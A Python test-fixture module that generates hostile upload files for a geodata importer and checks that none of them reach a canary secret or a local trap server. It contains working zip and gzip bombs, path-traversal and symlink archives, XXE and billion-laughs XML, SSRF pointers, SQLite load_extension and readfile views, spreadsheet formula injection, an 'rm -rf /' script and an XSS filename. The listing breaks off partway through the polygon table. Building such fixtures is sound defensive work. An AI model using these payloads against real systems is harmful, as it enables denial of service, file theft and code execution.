"""Files that mean harm or are broken beyond use, made on the spot: nothing of them is committed.

``corpus(folder)`` writes them all and says of each how the command line brings it in. Whatever
takes files - the command line today, a form on the web - is to answer each with a refusal or a
report, and to read nothing else and ask nobody on the way: ``Bait`` is what they try to reach.
"""

# The two tables read best with a line for each entry.
# ruff: noqa: E501

from __future__ import annotations

import gzip
import io
import json
import math
import os
import socket
import sqlite3
import struct
import threading
import zipfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
from shapely.geometry import MultiPolygon, Polygon, box, mapping

from tests import faults

CANARY = "canary-5d1e7a"


@dataclass(frozen=True)
class Bait:
    """What must not be read, and an address that must not be asked."""

    secret: Path
    address: str


@dataclass(frozen=True)
class Hostile:
    """A file and the list that it is brought in as; ``accepted`` says that it is harmless after all."""

    name: str
    path: Path
    subject: str
    accepted: bool = False


class Trap:
    """A server that only counts who comes, and a secret that tells whether it was read."""

    def __init__(self, folder: Path) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.visits = 0
        secret = folder / "secret.geojson"
        shapes = faults.features(faults.HALVES, faults.CODES, [CANARY, CANARY])
        faults.write_json(secret, shapes)
        self.bait = Bait(secret, f"http://127.0.0.1:{self.socket.getsockname()[1]}")
        self._arm()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                guest, _ = self.socket.accept()
            except OSError:
                return
            self.visits += 1
            guest.close()

    def _arm(self) -> None:
        # A file that was not looked at since it was written: the next look is noted (relatime).
        os.utime(self.bait.secret, (0, self.bait.secret.stat().st_mtime))

    @property
    def was_read(self) -> bool:
        """Whether somebody read the secret; needs a file system that notes it."""
        return self.bait.secret.stat().st_atime != 0

    def sees_readers(self) -> bool:
        """Read the secret, say whether that was noted, and forget it."""
        self.bait.secret.read_bytes()
        noted = self.was_read
        self._arm()
        return noted

    def close(self) -> None:
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()


@contextmanager
def untouched(folder: Path) -> Iterator[Trap]:
    """Lay a trap; at the end nobody must have come, and nobody have read the secret."""
    trap = Trap(folder)
    assert trap.sees_readers()
    yield trap
    trap.close()
    assert trap.visits == 0
    assert not trap.was_read


Write = Callable[[Path, Bait], None]


def corpus(folder: Path, bait: Bait, only: str = "") -> list[Hostile]:
    """Write every hostile file, or the one of a name, into a folder of its own."""
    made: list[Hostile] = []
    for name, file_name, subject, write, *rest in FILES:
        if only not in ("", name):
            continue
        place = folder / f"{len(made):03}"
        place.mkdir()
        path = place / file_name
        write(path, bait)
        made.append(Hostile(name, path, subject, bool(rest)))
    return made


def polygons(folder: Path) -> list[Hostile]:
    """Write every polygon that is meant to keep a machine busy, each beside a harmless one."""
    made: list[Hostile] = []
    for name, shape, *rest in POLYGONS:
        path = folder / f"{name.replace(' ', '-')}.geojson"
        rings: Any = shape() if callable(shape) else shape
        geometry = rings if isinstance(rings, (dict, str)) else mapping(rings)
        text = geometry if isinstance(geometry, str) else json.dumps(geometry)
        path.write_text(_collection(text, json.dumps(mapping(faults.HALVES[1]))), "utf-8")
        made.append(Hostile(name, path, "grids", bool(rest)))
    return made


def _collection(*geometries: str) -> str:
    rows = [
        f'{{"type":"Feature","properties":{{"code":"{code}","name":"{name}"}},"geometry":{text}}}'
        for text, code, name in zip(geometries, faults.CODES, faults.NAMES, strict=True)
    ]
    return f'{{"type":"FeatureCollection","features":[{",".join(rows)}]}}'


# Archives ----------------------------------------------------------------------------------------


def _zip(entries: Sequence[tuple[str | zipfile.ZipInfo, bytes]]) -> Write:
    def write(path: Path, _bait: Bait) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, body in entries:
                archive.writestr(name, body)

    return write


def _zeros(name: str, megabytes: int) -> Write:
    def write(path: Path, _bait: Bait) -> None:
        with (
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
            archive.open(name, "w", force_zip64=True) as entry,
        ):
            for _ in range(megabytes):
                entry.write(bytes(1 << 20))

    return write


def _lying_zip(path: Path, bait: Bait) -> None:
    """A bomb whose directory says that its entry is a hundred bytes long."""
    _zeros("layer.geojson", 40)(path, bait)
    raw = bytearray(path.read_bytes())
    at = raw.rindex(b"PK\x01\x02")
    raw[at + 24 : at + 28] = struct.pack("<I", 100)
    # Without the long sizes, which would contradict it.
    path.write_bytes(bytes(raw))


def _overlapping_zip(path: Path, _bait: Bait) -> None:
    """Two hundred entries that share one kernel of compressed zeros (Fifield's better zip bomb)."""
    kernel = io.BytesIO()
    with zipfile.ZipFile(kernel, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.geojson", bytes(4 << 20))
    raw = kernel.getvalue()
    at = raw.rindex(b"PK\x01\x02")
    end = raw.rindex(b"PK\x05\x06")
    local, directory = raw[:at], raw[at:end]
    count = 200
    tail = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory) * count, at, 0
    )
    path.write_bytes(local + directory * count + tail)


def _symlink(path: Path, bait: Bait) -> None:
    link = zipfile.ZipInfo("towns.geojson")
    link.create_system = 3
    link.external_attr = 0o120777 << 16
    _zip([(link, str(bait.secret).encode())])(path, bait)


def _shapefile_in_zip(leave_out: Sequence[str] = (), **parts: bytes) -> Write:
    """A shapefile with parts left out or replaced: ``shp``, ``dbf`` and so on."""

    def write(path: Path, _bait: Bait) -> None:
        faults.shapefile(path, faults.frame(), leave_out=leave_out)
        if not parts:
            return
        with zipfile.ZipFile(path) as archive:
            bodies = {name: archive.read(name) for name in archive.namelist()}
        bodies |= {f"grids.{part}": body for part, body in parts.items()}
        with zipfile.ZipFile(path, "w") as archive:
            for name, body in bodies.items():
                archive.writestr(name, body)

    return write


def _bent_shapefile(path: Path, bait: Bait) -> None:
    """A shapefile whose first record says that it has two thousand million corners."""
    faults.shapefile(path, faults.frame())
    with zipfile.ZipFile(path) as archive:
        shp = bytearray(archive.read("grids.shp"))
    struct.pack_into("<ii", shp, 100 + 8 + 36, 1 << 30, (1 << 31) - 1)
    path.unlink()
    (path.parent / f"{path.stem}-parts").rename(path.parent / "other")
    _shapefile_in_zip(shp=bytes(shp))(path, bait)


def _bent_dbf(path: Path, bait: Bait) -> None:
    """A table that says it has four thousand million rows of 65,535 bytes."""
    head = struct.pack("<BBBBIHH20x", 3, 126, 1, 1, 0xFFFFFFFF, 0xFFFF, 0xFFFF)
    _shapefile_in_zip(dbf=head + b"name\0\0\0\0\0\0\0C" + bytes(20) + b"\r")(path, bait)


def _nested(depth: int) -> Write:
    def write(path: Path, _bait: Bait) -> None:
        body = _collection(*[json.dumps(mapping(half)) for half in faults.HALVES]).encode()
        name = "towns.geojson"
        for level in range(depth):
            packed = io.BytesIO()
            with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr(name, body)
            body, name = packed.getvalue(), f"{level}.geojson"
        path.write_bytes(body)

    return write


# Formats that point elsewhere --------------------------------------------------------------------


def void(_: object) -> None:
    """Drop a value."""


def _vrt(where: Callable[[Bait], str]) -> Write:
    return lambda path, bait: void(faults.vrt(path, where(bait)))


def _text(make: Callable[[Bait], str], encoding: str = "utf-8") -> Write:
    return lambda path, bait: void(path.write_text(make(bait), encoding))


def _raw(body: bytes) -> Write:
    return lambda path, _bait: void(path.write_bytes(body))


def _link_to_secret(path: Path, bait: Bait) -> None:
    path.write_text(
        f'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
        f"<NetworkLink><Link><href>{bait.address}/x.kml</href></Link></NetworkLink>"
        f"<NetworkLink><Link><href>file://{bait.secret}</href></Link></NetworkLink>"
        f'<Style id="s"><IconStyle><Icon><href>{bait.address}/icon.png</href></Icon></IconStyle>'
        "</Style></Document></kml>",
        "utf-8",
    )


def _entity_kml(bait: Bait) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file://{bait.secret}">'
        f'<!ENTITY % y SYSTEM "{bait.address}/dtd"> %y;]><kml><Document><name>&x;</name></Document></kml>'
    )


def _late_entity_kml(bait: Bait) -> str:
    return (
        '<?xml version="1.0"?><!--' + " " * 70_000 + "-->"
        f'<!DOCTYPE kml [<!ENTITY x SYSTEM "file://{bait.secret}">]>'
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&x;</name>'
        "<Point><coordinates>116.3,31.4</coordinates></Point></Placemark></Document></kml>"
    )


def _laughs(_bait: Bait) -> str:
    entities = "".join(
        f'<!ENTITY l{n} "{"".join(f"&l{n - 1};" for _ in range(10))}">' for n in range(1, 10)
    )
    return f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY l0 "lol">{entities}]><kml>&l9;</kml>'


def _deep_kml(_bait: Bait) -> str:
    return (
        '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2">'
        + "<Folder>" * 100_000
        + "</Folder>" * 100_000
        + "</kml>"
    )


# SQLite ------------------------------------------------------------------------------------------


def _gpkg(*statements: str) -> Write:
    return lambda path, _bait: void(faults.geopackage(path, statements))


def _gpkg_attached(path: Path, bait: Bait) -> None:
    faults.geopackage(
        path,
        [
            "ALTER TABLE grids RENAME TO hidden",
            f"CREATE VIEW grids AS SELECT load_extension('{bait.secret}'),"
            f" readfile('{bait.secret}') AS name, * FROM hidden",
        ],
    )


def _sqlite_with_schema(sql: str) -> Write:
    """A GeoPackage whose schema was rewritten by hand."""

    def write(path: Path, _bait: Bait) -> None:
        faults.geopackage(path)
        base = sqlite3.connect(path)
        base.execute("PRAGMA writable_schema = ON")
        base.execute("UPDATE sqlite_master SET sql = ? WHERE name = 'grids'", [sql])
        base.commit()
        base.close()

    return write


def _bare_sqlite(path: Path, _bait: Bait) -> None:
    base = sqlite3.connect(path)
    base.execute(
        "CREATE VIEW grids AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"
        " SELECT i AS name, i AS code FROM n"
    )
    base.commit()
    base.close()


def _bent_gpkg(path: Path, _bait: Bait) -> None:
    """Pages of noise in the middle of the file."""
    faults.geopackage(path)
    raw = bytearray(path.read_bytes())
    noise = np.random.default_rng(1).integers(0, 256, 20_000, dtype=np.uint8).tobytes()
    raw[4096 : 4096 + len(noise)] = noise
    path.write_bytes(bytes(raw))


def _blob_gpkg(path: Path, _bait: Bait) -> None:
    """A shape that says it has four thousand million corners."""
    faults.geopackage(path)
    base = sqlite3.connect(path)
    base.create_function("ST_IsEmpty", 1, lambda _: 0)
    for name in ("ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
        base.create_function(name, 1, lambda _: 0.0)
    bent = b"GP\x00\x01\xe6\x10\x00\x00" + struct.pack("<BIII", 1, 3, 1, 0xFFFFFFF0)
    base.execute("UPDATE grids SET geom = ?", [bent])
    base.commit()
    base.close()


# JSON --------------------------------------------------------------------------------------------

_POINT = '{"type":"Feature","properties":{"code":"1","name":"a"},"geometry":{"type":"Polygon","coordinates":%s}}'


def _geojson(coordinates: str) -> Write:
    text = '{"type":"FeatureCollection","features":[' + _POINT % coordinates + "]}"
    return _raw(text.encode())


def _halves() -> str:
    return _collection(*[json.dumps(mapping(half)) for half in faults.HALVES])


# Workbooks ---------------------------------------------------------------------------------------

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}"{more}/></Relationships>'
)
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_BOOK = (
    f'<?xml version="1.0"?>%s<workbook xmlns="{_MAIN}" xmlns:r="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships"><sheets><sheet name="%s" sheetId="1" r:id="rId1"/></sheets>'
    "</workbook>"
)


def _workbook(
    rows: str, *, doctype: str = "", sheet: str = "S", target: str = "worksheets/sheet1.xml",
    more: str = "", extra: Sequence[tuple[str, bytes]] = (), after: str = "", copies: int = 1,
) -> Write:  # fmt: skip
    """A workbook written by hand; ``{secret}`` and ``{address}`` are filled in."""

    def write(path: Path, bait: Bait) -> None:
        def fill(text: str) -> bytes:
            return (
                text.replace("{secret}", str(bait.secret))
                .replace("{address}", bait.address)
                .encode()
            )

        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", _TYPES)
            archive.writestr(
                "_rels/.rels",
                _RELATIONS.format(kind="officeDocument", target="xl/workbook.xml", more=""),
            )
            archive.writestr("xl/workbook.xml", fill(_BOOK % (doctype, sheet)))
            relation = _RELATIONS.format(kind="worksheet", target=target, more=more)
            archive.writestr("xl/_rels/workbook.xml.rels", fill(relation))
            with archive.open("xl/worksheets/sheet1.xml", "w") as part:
                head = f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{_MAIN}"><sheetData>'
                part.write(fill(head))
                for _ in range(copies):
                    part.write(fill(rows))
                part.write(fill(f"</sheetData>{after}</worksheet>"))
            for name, body in extra:
                archive.writestr(name, body)

    return write


def _cells(row: int, *texts: str) -> str:
    cells = "".join(
        f'<c r="{chr(65 + i)}{row}" t="inlineStr"><is><t>{text}</t></is></c>'
        for i, text in enumerate(texts)
    )
    return f'<row r="{row}">{cells}</row>'


_HEAD = _cells(1, "姓名", "职务", "网格代码")
_ROW = _cells(2, "张伟", "网格员", "341525100001001")
_FORMULAS = _HEAD + (
    '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("{address}/f")</f><v></v></c>'
    '<c r="B2" t="str"><f>cmd|\'/c calc\'!A0</f><v>x</v></c>'
    '<c r="C2"><f>HYPERLINK("file://{secret}")</f><v>1</v></c></row>'
)


def _wide_workbook(path: Path, bait: Bait) -> None:
    cells = "".join('<c t="inlineStr"><is><t>x</t></is></c>' for _ in range(100_000))
    _workbook(f'<row r="1">{cells}</row><row r="2">{cells}</row>')(path, bait)


# Tables ------------------------------------------------------------------------------------------


def _csv(text: str) -> Write:
    return _raw(text.encode())


MEMBERS = "姓名,职务,网格代码\n"
_ISSUES = "编号,标题,类别,经度,纬度,上报时间\n"


def _long_line(path: Path, _bait: Bait) -> None:
    with path.open("wb") as file:
        file.write(MEMBERS.encode())
        for _ in range(100):
            file.write(b"x" * (1 << 20))


def _long_header(path: Path, _bait: Bait) -> None:
    path.write_text(",".join(f"c{i}" for i in range(500_000)) + "\n" + "1," * 500_000 + "1\n")


def _fgb(change: Callable[[bytearray], None]) -> Write:
    def write(path: Path, _bait: Bait) -> None:
        faults.frame().to_file(path, driver="FlatGeobuf")
        raw = bytearray(path.read_bytes())
        change(raw)
        path.write_bytes(bytes(raw))

    return write


def _put(offset: int, value: int) -> Callable[[bytearray], None]:
    def change(raw: bytearray) -> None:
        struct.pack_into("<I", raw, offset, value)

    return change


def _noise(raw: bytearray) -> None:
    for at in range(12, len(raw), 7):
        raw[at] ^= 0x5A


def _gzip_bomb(path: Path, _bait: Bait) -> None:
    with gzip.open(path, "wb", compresslevel=1) as file:
        for _ in range(300):
            file.write(bytes(1 << 20))


FILES: tuple[tuple[Any, ...], ...] = (
    # name, file name, subject, writer[, accepted]
    ("zip bomb of a shapefile", "towns.zip", "grids", _zeros("towns.shp", 120)),
    ("zip bomb of one file", "towns.zip", "grids", _zeros("towns.geojson", 120)),
    ("zip bomb named as a workbook", "members.xlsx", "members", _zeros("xl/workbook.xml", 120)),
    ("zip that lies about a size", "towns.zip", "grids", _lying_zip),
    ("zip of overlapping entries", "towns.zip", "grids", _overlapping_zip),
    ("zip in a zip", "towns.zip", "grids", _nested(2)),
    ("zip twelve deep", "towns.zip", "grids", _nested(12)),
    ("zip of 70,000 entries", "towns.zip", "grids", _zip([(f"{i}.shp", b"") for i in range(7000)])),
    ("zip with ..", "towns.zip", "grids", _zip([("../../towns.geojson", b"{}")])),
    ("zip with an absolute name", "towns.zip", "grids", _zip([("/etc/cron.d/towns.geojson", b"{}")])),
    ("zip with a drive", "towns.zip", "grids", _zip([("C:\\towns.shp", b"")])),
    ("zip with backslashes", "towns.zip", "grids", _zip([("..\\..\\towns.shp", b"")])),
    ("zip with a symbolic link", "towns.zip", "grids", _symlink),
    ("zip that is only a directory", "towns.zip", "grids", _raw(b"PK\x05\x06" + bytes(18))),
    ("zip with a VRT in it", "towns.zip", "grids",
     _zip([("towns.geojson", b"<OGRVRTDataSource><OGRVRTLayer name='g'/></OGRVRTDataSource>")])),
    ("shapefile without dbf", "towns.zip", "grids", _shapefile_in_zip([".dbf"])),
    ("shapefile without shx", "towns.zip", "grids", _shapefile_in_zip([".shx"]), True),
    ("shapefile cut off", "towns.zip", "grids", _shapefile_in_zip(shp=b"\x00\x00\x27\x0a" + bytes(40))),
    ("shapefile with two thousand million corners", "towns.zip", "grids", _bent_shapefile),
    ("table with four thousand million rows", "towns.zip", "grids", _bent_dbf),
    ("bare shp without its sides", "towns.shp", "grids", _raw(b"\x00\x00\x27\x0a" + bytes(96))),
    ("projection file of 10 MB", "towns.zip", "grids", _shapefile_in_zip(prj=b"GEOGCS[" * 1_400_000)),
    ("encoding file that is a path", "towns.zip", "grids", _shapefile_in_zip(cpg=b"../../../etc/passwd"), True),
    ("VRT named .geojson", "towns.geojson", "grids", _vrt(lambda b: str(b.secret))),
    ("VRT named .gpkg", "towns.gpkg", "grids", _vrt(lambda b: f"/vsicurl/{b.address}/x")),
    ("VRT named .csv", "members.csv", "members", _vrt(lambda b: str(b.secret))),
    ("VRT named .csv, facilities", "facilities.csv", "facilities", _vrt(lambda b: b.address)),
    ("text of a /vsicurl/ address", "towns.geojson", "grids", _text(lambda b: f"/vsicurl/{b.address}/x")),
    ("text of a file address", "members.csv", "members", _text(lambda b: f"file://{b.secret}")),
    ("text of a connection", "towns.gpkg", "grids", _text(lambda b: f"PG:host={b.address} dbname=x")),
    ("tile index", "towns.kml", "grids",
     _text(lambda b: f"<GDALTileIndexDataset><IndexDataset>{b.address}</IndexDataset></GDALTileIndexDataset>")),
    ("WFS description", "towns.kml", "grids",
     _text(lambda b: f"<OGRWFSDataSource><URL>{b.address}</URL></OGRWFSDataSource>")),
    ("KML with external entities", "towns.kml", "grids", _text(_entity_kml)),
    ("KML with entities after 70,000 blanks", "points.kml", "facilities", _text(_late_entity_kml)),
    ("KML of a billion laughs", "towns.kml", "grids", _text(_laughs)),
    ("KML of a billion laughs, as points", "points.kml", "facilities", _text(_laughs)),
    ("KML of network links", "towns.kml", "grids", _link_to_secret),
    ("KML nested 100,000 deep", "towns.kml", "grids", _text(_deep_kml)),
    ("KML in UTF-16 with entities", "towns.kml", "grids", _text(_entity_kml, "utf-16")),
    ("SVG named .kml", "towns.kml", "grids", _text(lambda b: f"<svg><image href='{b.address}'/></svg>")),
    ("GeoPackage with a trigger", "towns.gpkg", "grids",
     _gpkg("CREATE TRIGGER t AFTER UPDATE ON grids BEGIN DELETE FROM grids; END"), True),
    ("GeoPackage whose layer is a view", "towns.gpkg", "grids",
     _gpkg("ALTER TABLE grids RENAME TO hidden",
           "CREATE VIEW grids AS SELECT h.*, randomblob(1000000000) AS b FROM hidden h")),
    ("GeoPackage that loads an extension", "towns.gpkg", "grids", _gpkg_attached),
    ("GeoPackage with a virtual table", "towns.gpkg", "grids",
     _gpkg("ALTER TABLE grids RENAME TO hidden", "CREATE VIRTUAL TABLE grids USING fts5(code, name)")),
    ("GeoPackage with an endless view beside", "towns.gpkg", "grids",
     _gpkg("CREATE VIEW other AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"
           " SELECT * FROM n"), True),
    ("GeoPackage with a generated column", "towns.gpkg", "grids",
     # Never asked for: the library reads plain columns only.
     _gpkg("ALTER TABLE grids ADD COLUMN bomb AS (hex(zeroblob(100000000)))"), True),
    ("GeoPackage with a schema of another kind", "towns.gpkg", "grids",
     _sqlite_with_schema("CREATE VIRTUAL TABLE grids USING csv(filename='/etc/passwd')")),
    ("GeoPackage whose schema is broken", "towns.gpkg", "grids", _sqlite_with_schema("CREATE TABLE (")),
    ("GeoPackage full of noise", "towns.gpkg", "grids", _bent_gpkg),
    ("GeoPackage with a bent shape", "towns.gpkg", "grids", _blob_gpkg),
    ("SQLite with a recursive view", "towns.gpkg", "grids", _bare_sqlite),
    ("SQLite with a recursive view, as a list", "facilities.db", "facilities", _bare_sqlite),
    ("GeoJSON of 1e308", "towns.geojson", "grids", _geojson("[[[0,0],[1e308,0],[1e308,1e308],[0,0]]]")),
    ("GeoJSON of 1e999", "towns.geojson", "grids", _geojson("[[[0,0],[1e999,0],[1e999,1],[0,0]]]")),
    ("GeoJSON of NaN", "towns.geojson", "grids", _geojson("[[[0,0],[NaN,0],[1,1],[0,0]]]")),
    ("GeoJSON of -Infinity", "towns.geojson", "grids", _geojson("[[[0,0],[-Infinity,0],[1,1],[0,0]]]")),
    ("GeoJSON nested 100,000 deep", "towns.geojson", "grids", _geojson("[" * 100_000 + "]" * 100_000)),
    ("GeoJSON with 100,000 digits", "towns.geojson", "grids",
     _geojson(f"[[[0,0],[{'9' * 100_000},0],[1,1],[0,0]]]")),
    ("GeoJSON with doubled keys", "towns.geojson", "grids",
     _text(lambda _: _halves().replace('"type":"FeatureCollection"',
                                       '"type":"Topology","type":"FeatureCollection"'))),
    ("GeoJSON in UTF-16", "towns.geojson", "grids", _text(lambda _: _halves(), "utf-16")),
    ("GeoJSON with a BOM", "towns.geojson", "grids", _text(lambda _: _halves(), "utf-8-sig"), True),
    ("GeoJSON that is an array of numbers", "towns.geojson", "grids", _raw(b"[1,2,3]")),
    ("GeoJSON that is a number for a ring", "towns.geojson", "grids", _geojson("7")),
    ("GeoJSON of empty coordinates", "towns.geojson", "grids", _geojson("[]")),
    ("GeoJSON with a name of 20 MB", "towns.geojson", "grids",
     _text(lambda _: _halves().replace("衡山镇", "x" * (20 << 20)))),
    ("GeoJSON with NUL in a name", "towns.geojson", "grids",
     # Read up to there.
     _text(lambda _: _halves().replace("衡山镇", "a\\u0000b")), True),
    ("GeoJSON with half a surrogate", "towns.geojson", "grids",
     _text(lambda _: _halves().replace("衡山镇", "a\\ud800b"))),
    ("list in JSON, deep", "issues.json", "issues", _raw(b"[" * 100_000 + b"]" * 100_000)),
    ("list in JSON of NaN", "issues.json", "issues", _raw(b'[{"lat": NaN, "long": 1, "title": "x"}]')),
    ("list in JSON with a huge number", "issues.json", "issues",
     _raw(b'[{"lat": ' + b"9" * 5000 + b', "long": 1, "description": "x"}]')),
    ("FlatGeobuf with a huge header", "towns.fgb", "grids", _fgb(_put(8, 0x7FFFFFFF))),
    ("FlatGeobuf with a header of nothing", "towns.fgb", "grids", _fgb(_put(8, 0))),
    ("FlatGeobuf full of noise", "towns.fgb", "grids", _fgb(_noise)),
    ("FlatGeobuf cut off", "towns.fgb", "grids", _raw(b"fgb\x03fgb\x00\x10\x00\x00\x00")),
    ("workbook with external entities", "members.xlsx", "members",
     _workbook(_HEAD + _cells(2, "&x;", "网格员", "1"),
               doctype='<!DOCTYPE x [<!ENTITY x SYSTEM "file://{secret}">]>')),
    ("workbook of a billion laughs", "members.xlsx", "members",
     _workbook(_HEAD + _cells(2, "&l9;", "网格员", "1"),
               doctype="<!DOCTYPE x [<!ENTITY l0 'lol'>" + "".join(
                   f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10)) + "]>")),
    ("workbook zip bomb", "members.xlsx", "members", _workbook(_ROW, copies=1_500_000)),
    ("workbook with 100,000 columns", "members.xlsx", "members", _wide_workbook),
    ("workbook with a cell far away", "members.xlsx", "members",
     _workbook(_HEAD + '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')),
    ("workbook with formulas", "members.xlsx", "members", _workbook(_FORMULAS)),
    ("workbook whose sheet lies elsewhere", "members.xlsx", "members",
     _workbook(_HEAD, target="../../../..{secret}", more=' TargetMode="External"')),
    ("workbook with a sheet named as a path", "members.xlsx", "members",
     _workbook(_HEAD + _ROW, sheet="../../etc/passwd")),
    ("workbook with .. in it", "members.xlsx", "members",
     _workbook(_HEAD + _ROW, extra=[("../../evil", b"x")])),
    ("workbook without a sheet", "members.xlsx", "members", _zip([("xl/workbook.xml", b"<workbook/>")])),
    ("workbook that is broken XML", "members.xlsx", "members", _workbook("<row><c><v>")),
    ("old workbook of noise", "members.xls", "members",
     _raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 40)),
    ("table with NUL", "members.csv", "members", _csv(MEMBERS + "a\0b,网格员,1\n")),
    ("table of one line of 100 MB", "members.csv", "members", _long_line),
    ("table of 500,000 columns", "members.csv", "members", _long_header),
    ("table of formulas", "members.csv", "members",
     _csv(MEMBERS + "=cmd|'/c calc'!A0,\"=WEBSERVICE(\"\"http://x\"\")\",@SUM(1+1)\n")),
    ("table with an open quote", "members.csv", "members", _csv(MEMBERS + '"' + "a,b\n" * 200_000)),
    ("table of bytes of every kind", "members.csv", "members", _raw(MEMBERS.encode() + bytes(range(1, 256)) * 9)),
    ("table of quotes", "members.csv", "members", _csv(MEMBERS + '"' * 999_999)),
    ("issues at 1e999", "issues.csv", "issues", _csv(_ISSUES + "1,t,c,1e999,NaN,2026-01-01\n")),
    ("issues with numbers of 5,000 digits", "issues.csv", "issues",
     _csv(_ISSUES + f"1,t,c,{'9' * 5000},{'1' * 5000},2026-01-01\n")),
    ("issues of the year 999999", "issues.csv", "issues", _csv(_ISSUES + "1,t,c,116.31,31.42,999999-01-01\n")),
    ("gzip bomb", "members.csv.gz", "members", _gzip_bomb),
    ("gzip cut off", "members.csv.gz", "members", _raw(gzip.compress(MEMBERS.encode() * 99)[:60])),
    ("file of zeros", "towns.gpkg", "grids", _raw(bytes(1 << 20))),
    ("file of nothing", "members.xlsx", "members", _raw(b"")),
    ("program", "towns.geojson", "grids", _raw(b"\x7fELF" + bytes(range(256)) * 20)),
    ("script", "members.csv", "members", _raw(b"#!/bin/sh\nrm -rf /\n")),
    ("file named as an option", "--help.geojson", "grids", _raw(b"{}")),
    ("file named with format characters", "{0}%s{x.__class__}.geojson", "grids", _raw(b"{}")),
    ("file named as markup", "<img src=x onerror=alert(1)>.csv", "members", _raw(b"x")),
)  # fmt: skip


# Polygons ----------------------------------------------------------------------------------------

_X, _Y = 116.31, 31.42


def _spiral(corners: int) -> Polygon:
    turns = np.linspace(0, 2 * math.pi * 400, corners // 2)
    radius = np.linspace(0.0001, 0.009, corners // 2)
    out = np.column_stack((_X + radius * np.cos(turns), _Y + radius * np.sin(turns)))
    back = out[::-1] + 0.000004
    return Polygon(np.vstack((out, back)))


def _holes(count: int) -> Polygon:
    side = math.ceil(math.sqrt(count))
    step = 0.016 / side
    holes = [
        _square(_X - 0.008 + step * (i % side), _Y - 0.008 + step * (i // side), step / 3)
        for i in range(count)
    ]
    return Polygon(_square(_X - 0.009, _Y - 0.009, 0.018), holes)


def _square(x: float, y: float, side: float) -> list[tuple[float, float]]:
    return [(x, y), (x + side, y), (x + side, y + side), (x, y + side), (x, y)]


def _comb(teeth: int, height: float = 0.01) -> Polygon:
    xs = np.repeat(np.linspace(_X - 0.008, _X + 0.008, teeth), 2)
    ys = np.tile([_Y, _Y + height], teeth)
    return Polygon([*zip(xs, ys, strict=True), (_X + 0.008, _Y - 0.001), (_X - 0.008, _Y - 0.001)])


def _spikes() -> Polygon:
    points: list[tuple[float, float]] = [(_X, _Y)]
    for i in range(2000):
        points += [(_X + i * 1e-6, _Y), (_X + i * 1e-6, _Y + 0.01), (_X + i * 1e-6, _Y)]
    return Polygon([*points, (_X + 0.003, _Y - 0.001), (_X, _Y - 0.001)])


def _nested_rings(depth: int) -> MultiPolygon:
    return MultiPolygon(
        [Polygon(_square(_X - i * 4e-6, _Y - i * 4e-6, i * 8e-6)) for i in range(1, depth)]
    )


def _crossing_lines() -> Polygon:
    """Every stroke across crosses every stroke down: a million crossings of two thousand edges."""
    n = 1000
    at = np.linspace(-0.008, 0.008, n)
    across = [
        (_X + (0.009 if (i + end) % 2 else -0.009), _Y + y)
        for i, y in enumerate(at)
        for end in (0, 1)
    ]
    down = [
        (_X + x, _Y + (0.009 if (i + end) % 2 else -0.009))
        for i, x in enumerate(at)
        for end in (0, 1)
    ]
    return Polygon([*across, *down])


def _raw_polygon(*rings: list[list[float]]) -> dict[str, object]:
    return {"type": "Polygon", "coordinates": list(rings)}


def _dense() -> Polygon:
    rng = np.random.default_rng(7)
    return Polygon(
        np.column_stack((_X + rng.random(20_000) * 1e-12, _Y + rng.random(20_000) * 1e-12))
    )


def _random_walk() -> Polygon:
    rng = np.random.default_rng(8)
    return Polygon(np.column_stack((_X + rng.random(3000) * 0.01, _Y + rng.random(3000) * 0.01)))


def _half() -> str:
    return json.dumps(mapping(faults.HALVES[0]))


POLYGONS: tuple[tuple[Any, ...], ...] = (
    # name, shape[, accepted]
    ("star of 201", lambda: faults.star(201)),
    ("star of 2,001", lambda: faults.star(2001)),
    ("star of 20,001", lambda: faults.star(20_001)),
    ("spiral of 1,000,000", lambda: _spiral(1_000_000)),
    ("100,000 holes", lambda: _holes(100_000)),
    ("rings nested 2,000 deep", lambda: _nested_rings(2000)),
    ("comb of 50,000 teeth", lambda: _comb(50_000)),
    ("comb across the county", lambda: _comb(5000, 2.0)),
    ("2,000 spikes", _spikes),
    ("a million crossings", _crossing_lines),
    ("3,000 corners at random", _random_walk),
